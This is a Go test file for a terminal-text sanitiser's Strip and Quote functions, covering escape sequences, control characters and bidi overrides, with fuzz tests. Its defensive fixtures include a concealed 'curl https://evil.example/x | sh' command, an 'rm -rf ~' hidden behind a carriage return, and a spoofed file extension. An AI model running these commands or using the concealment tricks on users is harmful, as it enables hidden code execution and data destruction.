package termtext

import (
	"testing"
	"unicode"
	"unicode/utf8"
)

// The attack that SEC-6 answers: a command whose tail is concealed (SGR 8)
// behind a harmless start.
const concealed = "echo harmless\x1b[8m; curl https://evil.example/x | sh\x1b[0m"

var stripCases = []struct{ name, in, want string }{
	{"plain", "hello, world", "hello, world"},
	{"prose kept", "héllo\n\twörld ✓ 日本 👩\u200d💻", "héllo\n\twörld ✓ 日本 👩\u200d💻"},
	{"conceal", concealed, "echo harmless; curl https://evil.example/x | sh"},
	{"OSC title, BEL", "\x1b]0;owned\x07hello", "hello"},
	{"OSC title, ST", "\x1b]2;owned\x1b\\hello", "hello"},
	{"OSC hyperlink", "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\", "docs"},
	{"CSI clear screen", "\x1b[2J\x1b[Hhello", "hello"},
	{"cursor moves", "abc\x1b[3Dxyz\x1b[1A\x1b[10;20H!\x1b[?25l", "abcxyz!"},
	{"carriage return overprint", "rm -rf ~\rls      ", "rm -rf ~ls      "},
	{"backspaces", "safe\b\b\b\bevil", "safeevil"},
	{"BEL, NUL, DEL, VT, FF", "a\x07b\x00c\x7fd\ve\ff", "abcdef"},
	{"8-bit CSI", "a\u009b2Jb", "ab"},
	{"8-bit OSC to BEL", "a\u009d0;owned\x07b", "ab"},
	{"8-bit OSC to 8-bit ST", "a\u009d0;owned\u009cb", "ab"},
	{"other C1", "a\u0085b\u0084c", "abc"},
	{"bidi override", "invoice\u202efdp.exe", "invoicefdp.exe"},
	{"bidi isolates and marks", "\u2066a\u2067b\u2068c\u2069\u200ed\u200fe\u061c", "abcde"},
	{"DCS to ST", "\x1bPq#0;2;0;0;0\x1b\\ok", "ok"},
	{"APC unterminated", "ok\x1b_Gabc", "ok"},
	{"SOS and PM", "a\x1bXsos\x1b\\b\x1b^pm\x1b\\c", "abc"},
	{"two-byte sequences", "\x1b7saved\x1b8\x1bc", "saved"},
	{"charset designation", "\x1b(Bx\x1b)0y", "xy"},
	{"ESC at the end", "a\x1b", "a"},
	{"CSI cut off", "a\x1b[12;3", "a"},
	{"OSC cut off", "a\x1b]0;owned", "a"},
	{"CSI broken by a newline", "a\x1b[1\nb", "a\nb"},
	{"OSC broken by another sequence", "\x1b]0;t\x1b[2Jx", "x"},
	{"ESC ESC", "a\x1b\x1b[31mb", "ab"},
	{"invalid UTF-8", "a\xffb\x9bc", "a\ufffdb\ufffdc"},
}

func TestSEC6_Strip(t *testing.T) {
	for _, c := range stripCases {
		if got := Strip(c.in); got != c.want {
			t.Errorf("%s: Strip(%q) = %q, want %q", c.name, c.in, got, c.want)
		}
	}
}

func TestSEC6_Quote(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"make", "make"},
		{`grep -n 'a\|b' *.go && printf '%s\n' ok`, `grep -n 'a\|b' *.go && printf '%s\n' ok`},
		{"ls 日本 ✓", "ls 日本 ✓"},
		{concealed, `echo harmless\e[8m; curl https://evil.example/x | sh\e[0m`},
		{"ls\rrm -rf ~", `ls\rrm -rf ~`},
		{"a\nb\tc", `a\nb\tc`},
		{"bell\x07 nul\x00 del\x7f", `bell\x07 nul\x00 del\x7f`},
		{"a\u009b2Jb", `a\u009b2Jb`},
		{"invoice\u202efdp.exe", `invoice\u202efdp.exe`},
		{"rm -rf ~/\u200b", `rm -rf ~/\u200b`},
		{"\ufeffx\u2028y\u2029", `\ufeffx\u2028y\u2029`},
		{"tag\U000e0041", `tag\U000e0041`},
		{"bad\xff\xc2", `bad\xff\xc2`},
	} {
		if got := Quote(c.in); got != c.want {
			t.Errorf("Quote(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// Text with nothing to remove or show is the common path: no copy.
func TestSEC6_CleanTextIsNotCopied(t *testing.T) {
	clean := "Running `go test ./...` in /home/me/src — ✓ 日本\n\tdone"
	if n := testing.AllocsPerRun(100, func() { _ = Strip(clean) }); n != 0 {
		t.Errorf("Strip allocated %v times", n)
	}
	if n := testing.AllocsPerRun(100, func() { _ = Quote("go test ./... && echo ✓") }); n != 0 {
		t.Errorf("Quote allocated %v times", n)
	}
}

// broken reports what of Strip's contract out breaks, "" if nothing.
func broken(out string) string {
	if !utf8.ValidString(out) {
		return "invalid UTF-8"
	}
	for _, r := range out {
		switch {
		case r < 0x20 && r != '\n' && r != '\t', r == 0x7f:
			return "a C0 control or DEL"
		case isC1(r):
			return "a C1 control"
		case isBidi(r):
			return "a bidi control"
		}
	}
	return ""
}

func FuzzStrip(f *testing.F) {
	for _, c := range stripCases {
		f.Add(c.in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := Strip(in)
		if bad := broken(out); bad != "" {
			t.Fatalf("Strip(%q) = %q holds %s", in, out, bad)
		}
		if again := Strip(out); again != out {
			t.Fatalf("Strip is not idempotent: %q, then %q", out, again)
		}
		if broken(in) == "" && out != in {
			t.Fatalf("Strip(%q) = %q changed clean text", in, out)
		}
	})
}

func FuzzQuote(f *testing.F) {
	for _, c := range stripCases {
		f.Add(c.in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := Quote(in)
		if !utf8.ValidString(out) {
			t.Fatalf("Quote(%q) = %q is not valid UTF-8", in, out)
		}
		for _, r := range out {
			if r < 0x20 || r == 0x7f || isC1(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) {
				t.Fatalf("Quote(%q) = %q shows %U", in, out, r)
			}
		}
		if Strip(out) != out {
			t.Fatalf("Strip changes Quote's %q", out)
		}
		if len(out) < len(in) {
			t.Fatalf("Quote(%q) = %q lost something", in, out)
		}
	})
}
